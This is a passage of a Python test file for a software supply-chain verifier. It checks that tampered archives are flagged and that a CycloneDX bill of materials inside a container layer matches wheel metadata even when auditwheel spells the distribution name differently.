    files = {"p.yaml": content, **manifests({"p.yaml": content}, built.version)}
    target = world.folder / "tampered.zip"
    with_files(lambda known, _: known.update(files))(world, built, target)
    said = found(world, built, target)
    assert said == [] if passes else f"which runs {function}, must be" in said[0]


def test_a_bill_inside_a_wheel_may_spell_its_distribution_differently(tmp_path):
    """auditwheel writes scikit_learn into the bill of scikit-learn, which is the same distribution."""
    component = {"type": "library", "name": "scikit-learn", "purl": "pkg:pypi/scikit_learn@1.0"}
    metadata = "opt/scikit_learn-1.0.dist-info"
    contents = {
        f"{metadata}/METADATA": b"Name: scikit-learn\nVersion: 1.0\n",
        f"{metadata}/sboms/auditwheel.cdx.json": json.dumps({"components": [component]}).encode(),
    }
    with tarfile.open(tmp_path / "layer.tar", "w") as layer:
        for name, content in contents.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            layer.addfile(entry, io.BytesIO(content))
    files = ContainerFiles([tmp_path / "layer.tar"])
    check_bill({"components": [component | {"purl": "pkg:pypi/scikit-learn@1.0"}]}, files, {})
    with pytest.raises(DeliveryError, match=r"scikit-learn@1\.0 that is there but"):
        check_bill({"components": []}, files, {})
